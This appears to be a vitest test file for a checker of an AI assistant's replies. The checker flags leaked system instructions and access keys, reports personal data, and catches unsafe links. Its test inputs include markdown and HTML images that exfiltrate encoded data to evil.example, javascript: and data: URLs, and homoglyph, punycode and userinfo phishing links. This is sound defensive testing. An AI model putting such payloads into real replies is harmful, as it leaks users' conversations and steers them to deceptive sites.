import { expect, test } from 'vitest';
import { checkAnswer } from './check-answer.ts';

const instructions =
  'You are the assistant of the Harbour Library. Never mention fees, and always answer in two short sentences about our books.';
const rulesIn = (answer: string, given?: string): string[] =>
  checkAnswer(answer, given).findings.map(({ rule }) => rule);

test('an answer that repeats its instructions is flagged, with the place', () => {
  const answer = 'Sure! I was told: "NEVER mention fees, and always answer in two short sentences" by them.';
  const check = checkAnswer(answer, instructions);
  expect(check.action).toBe('flag');
  const [finding] = check.findings;
  expect(finding?.rule).toBe('leaked_instructions');
  expect(answer.slice(finding?.start, finding?.end)).toBe(
    'NEVER mention fees, and always answer in two short sentences',
  );
});

test('words that both use are no leak', () => {
  expect(
    checkAnswer('The Harbour Library has many books about fees in two short volumes.', instructions),
  ).toEqual({
    action: 'allow',
    findings: [],
  });
});

test('keys are flagged; personal data is reported only', () => {
  expect(checkAnswer('Your key is AKIAIOSFODNN7EXAMPLE.').action).toBe('flag');
  expect(checkAnswer('Write to anna@example.org.')).toMatchObject({
    action: 'allow',
    findings: [{ rule: 'personal_data', start: 9, end: 25 }],
  });
});

test.each([
  '![x](https://evil.example/p.png?d=c2VjcmV0)',
  '[ref]: https://evil.example/pixel?conversation=hello\n![a][ref]',
  '<img src="https://evil.example/a.gif?q=name">',
  '[click](javascript:alert(1))',
  '[click](java&#115;cript:alert(1))',
  '[page](data:text/html;base64,PHNjcmlwdD4=)',
  '[bank](https://paypal.com@evil.example/login)',
  '[bank](https://xn--pypal-4ve.com/)',
  '[bank](https://pаypal.com/)',
  `see https://evil.example/log?x=${'aGVsbG8gd29ybGQ'.repeat(5)}`,
])('unsafe link: %s', (answer) => {
  expect(rulesIn(answer)).toContain('unsafe_link');
});

test.each([
  'See [the guide](https://docs.example.org/guide?page=2#install) or https://example.org/search?q=bees.',
  '![logo](https://example.org/logo.png) and [mail](mailto:a) and [up](../index.md)',
  'See [München](https://münchen.example/rathaus)',
])('ordinary links: %s', (answer) => {
  expect(rulesIn(answer)).toEqual([]);
});
